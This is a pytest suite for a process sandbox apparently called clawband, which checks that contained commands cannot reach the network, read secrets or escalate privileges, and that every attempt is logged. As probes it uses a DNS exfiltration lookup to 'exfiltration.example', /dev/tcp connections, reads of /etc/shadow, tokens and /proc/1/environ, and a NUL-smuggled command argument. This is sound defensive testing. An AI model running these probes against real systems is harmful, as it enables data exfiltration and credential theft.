"""A contained process and its commands: what they can do, what they cannot, and what is seen."""

import json
import os
import shlex
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.adapters.kernel.conftest import COMMANDS, GATEWAY

ROOT = Path(__file__).resolve().parents[3]
pytestmark = pytest.mark.slow


TRY = """python3 -c '
import errno, socket
def says(name, act):
    try: act(); print(name, "went through")
    except OSError as error: print(name, errno.errorcode.get(error.errno, error))
udp, raw = (socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_INET, socket.SOCK_RAW, 1)
def sent(to):
    one = socket.socket(*udp); one.sendto(b"x" * 20, to); one.send(b"")
says("tcp", lambda: socket.create_connection(("203.0.113.9", 443), 2))
says("tcp6", lambda: socket.create_connection(("2001:db8::9", 443), 2))
says("udp", lambda: sent(("203.0.113.9", 443)))
says("dns", lambda: sent(("203.0.113.9", 53)))
says("link", lambda: socket.create_connection(("10.86.0.1", 22), 2))
says("raw", lambda: socket.socket(*raw))
says("packet", lambda: socket.socket(17, 3, 0))
says("vsock", lambda: socket.socket(40, 1, 0))
'"""


NAMES = {"tcp", "tcp6", "udp", "dns", "link", "raw", "packet", "vsock"}


def said(done):
    found = dict(line.split(" ", 1) for line in done.stdout.splitlines())
    assert set(found) == NAMES, done.stderr
    return found


def test_nothing_leaves_the_gateway_and_all_of_it_is_seen(contained):
    done = contained.run(TRY)
    assert "went through" not in said(done).values(), done.stdout
    seen = {line for line in done.stderr.splitlines() if line.startswith("stopped: ")}
    wanted = (
        "tcp 203.0.113.9:443", "tcp [2001:db8::9]:443", "udp 203.0.113.9:443", "dns 203.0.113.9",
        "socket inet raw icmp", "socket packet raw 0", "socket vsock stream 0",
    )  # fmt: skip
    assert {f"stopped: gateway: {each}" for each in wanted} <= seen
    assert any("tcp 10.86." in line for line in seen)


def test_nothing_leaves_a_command_and_its_launcher_tells_all_of_it(contained):
    done = contained.command(TRY)
    assert "went through" not in said(done).values(), done.stdout
    assert set(contained.launches.blocked) >= {
        "connect 203.0.113.9:443", "connect [2001:db8::9]:443", "connect 10.86.0.1:22",
        "socket inet-dgram", "socket inet-raw 1", "socket packet-raw", "socket vsock-stream",
    }  # fmt: skip
    assert "stopped:" not in done.stderr, "nothing came as far as the namespace's walls"


def test_only_the_launcher_is_started_by_the_other_user(contained):
    hand = (
        "import sys; sys.path.append(%r); from clawband.launcher import handover, children;"
        "children.end_as(handover.hand_over(handover.door(), %r))"
    )
    source = str(ROOT / "src")
    for words in ("/bin/sh", "-c", "8621\0id"):
        done = contained.run(f"{sys.executable} -S -c {shlex.quote(hand % (source, words))}")
        assert "uid=" not in done.stdout and "the spawner of commands went away" in done.stderr
    contained.launches.answer = b"HTTP/1.1 403 no\r\ncontent-length: 0\r\n\r\n"
    refused = contained.command("id")
    assert (refused.returncode, refused.stdout) == (126, "")


def test_a_name_is_looked_up_nowhere_and_the_attempt_is_seen(contained):
    done = contained.run("getent hosts c2VjcmV0.exfiltration.example")
    assert done.returncode == 2 and done.stdout == ""
    assert "gateway: dns c2VjcmV0.exfiltration.example at 192.0.2.53" in done.stderr


def test_the_proxy_is_where_it_always_is(contained):
    ask = (
        f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{contained.port} && "
        'printf "GET / HTTP/1.1\\r\\n\\r\\n" >&3 && tail -1 <&3\''
    )
    assert contained.run(ask).stdout == "through the proxy"
    assert contained.command(ask).stdout == "through the proxy"
    other = contained.run(f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{contained.port + 1}'")
    assert other.returncode != 0


def test_the_gateway_is_nobody_in_an_almost_empty_place(contained):
    done = contained.run(
        f"id -u; echo $(ls -A /); echo $(ps -e -o uid= | sort -u); echo x > {contained.state}/y;"
        "touch /x /usr/x; cat /etc/shadow; mount -t tmpfs x /tmp"
    )
    user, names, seen = done.stdout.splitlines()
    assert user == seen == str(GATEWAY)
    assert not {"home", "srv", "mnt", "sys", "opt"} & set(names.split())
    assert done.stderr.count("Read-only file system") == 2
    assert "/etc/shadow: No such file" in done.stderr
    assert (contained.state / "y").stat().st_uid == GATEWAY


def test_commands_are_somebody_else_and_share_the_workspace_alone(contained):
    (contained.workspace / "mine").write_text("from the gateway\n")
    done = contained.command(
        f"id -u; cat mine; echo made > theirs; stat -c %u theirs; cat {contained.config};"
        f" cat {contained.state}/token; cat /proc/1/environ; ls /run/clawband"
    )
    assert done.stdout.splitlines() == [str(COMMANDS), "from the gateway", str(COMMANDS)]
    assert len(done.stderr.splitlines()) == 4, done.stderr
    assert (contained.workspace / "theirs").stat().st_uid == GATEWAY


def test_the_state_is_not_even_there_for_what_runs_commands(contained):
    with contained.start("echo up; sleep 20") as process:
        assert process.stdout.readline() == "up\n"
        record = contained.folder / "clawband" / "contained" / "gateway.json"
        while not record.exists():
            time.sleep(0.05)
        told = json.loads(record.read_text())
        seen = {
            name: f"/proc/{told[name]}/root{contained.config}" for name in ("gateway", "commands")
        }
        assert os.path.exists(seen["gateway"]) and not os.path.exists(seen["commands"])
        process.terminate()


def test_a_command_ends_as_it_ends_and_when_it_is_told(contained):
    assert contained.command("exit 7").returncode == 7
    contained.launches.command = "sh ./next"
    launch = contained.launch
    done = contained.run(
        f"cd {contained.workspace}; echo 'kill -9 $$' > next; {launch}; echo $?;"
        f"echo 'exec sleep 30' > next; {launch} & sleep 1; kill $!; wait $!; echo $?;"
        f"echo 'exec sleep 31' > next; {launch} & sleep 1; kill -9 $!; sleep 1;"
        f"echo \"pgrep -f 'sleep 3[1]' || echo none\" > next; {launch}"
    )
    assert done.stdout.split() == ["137", "143", "none"], done.stderr


def test_an_environment_without_secrets(contained):
    done = contained.run(
        "env", OPENAI_API_KEY="planted", OPENCLAW_GATEWAY_TOKEN="planted", OPENCLAW_NO_RESPAWN="1"
    )
    assert "planted" not in done.stdout
    assert "OPENCLAW_NO_RESPAWN=1" in done.stdout


def test_check_finds_all_of_it_kept_and_says_what_is_not(contained):
    with contained.start("echo up; sleep 30") as process:
        assert process.stdout.readline() == "up\n"
        time.sleep(0.5)
        done = contained.check("--json")
        told = json.loads(done.stdout)
        assert {
            each["id"]: each["found"] for each in told["checks"] if each["outcome"] != "pass"
        } == {}
        assert done.returncode == 0 and len(told["checks"]) == 17
        own = contained.check("--json", "--pid", str(os.getpid()))
        failed = {
            each["id"] for each in json.loads(own.stdout)["checks"] if each["outcome"] == "fail"
        }
        assert own.returncode == 1
        assert failed >= {"user", "command-user", "no-new-privileges", "capabilities", "seccomp"}
        assert failed >= {"network", "mounts", "root", "processes"}
        process.terminate()
        process.wait(30)
    gone = contained.check()
    assert gone.returncode == 3 and "contain run" in gone.stderr


def test_it_ends_with_its_supervisor(contained):
    with contained.start("echo $$; exec sleep 4242") as process:
        process.stdout.readline()
        assert [each for each in socket.if_nameindex() if each[1].startswith("clawband")]
        process.kill()
        process.wait()
        end = time.monotonic() + 10
        while [each for each in socket.if_nameindex() if each[1].startswith("clawband")]:
            assert time.monotonic() < end, "the link is still there, and so is what it led to"
            time.sleep(0.1)


def test_what_would_not_be_there_is_said_at_once(contained):
    done = contained.run("true", OPENCLAW_CONFIG_PATH="/nowhere")
    assert done.returncode == 0
    (contained.folder / "program").write_text("#!/bin/sh\n")
    (contained.folder / "program").chmod(0o755)
    words = [*contained.words("run"), "--", str(contained.folder / "program")]
    refused = subprocess.run(words, capture_output=True, text=True, check=False)
    assert refused.returncode == 2 and "add its folder with `--read`" in refused.stderr
